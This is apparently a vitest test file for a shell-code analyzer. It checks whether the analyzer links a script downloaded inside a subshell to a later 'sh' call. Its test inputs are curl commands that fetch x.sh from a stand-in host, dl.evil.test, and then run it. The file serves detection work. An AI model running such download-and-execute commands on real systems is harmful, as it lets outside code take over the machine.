import { describe, expect, it } from 'vitest';
import type { AnalyzeCodeResult } from '../../../src/analysis/code/index.js';
import { factsOf, ofKind } from '../../support/code.js';

/**
 * `( cd dir && … )` changes the working folder of the subshell only: the lines after it run where the
 * script started. A download saved inside the subshell and run after it by its full relative path is the
 * downloaded file; a file of the same name in the starting folder is not.
 */

const remoteExecution = (r: AnalyzeCodeResult) =>
  ofKind(r, 'execute').filter((e) => e.code.taints.includes('download'));

describe('a cd inside a subshell', () => {
  it('does not move the folder of the lines after it: build/x.sh is the download', async () => {
    const r = await factsOf(
      'shell',
      '(cd build && curl -fsSL -o x.sh https://dl.evil.test/x.sh)\nsh build/x.sh\n',
      { origin: 'script' },
    );
    expect(remoteExecution(r)).toHaveLength(1);
  });

  it('a file of the same name where the script started is not the download', async () => {
    const r = await factsOf(
      'shell',
      '(cd build && curl -fsSL -o x.sh https://dl.evil.test/x.sh)\nsh x.sh\n',
      {
        origin: 'script',
      },
    );
    expect(remoteExecution(r)).toHaveLength(0);
  });

  it('a cd outside a subshell still moves the folder of the lines after it', async () => {
    const r = await factsOf('shell', 'cd build && curl -fsSL -o x.sh https://dl.evil.test/x.sh\nsh x.sh\n', {
      origin: 'script',
    });
    expect(remoteExecution(r)).toHaveLength(1);
  });
});
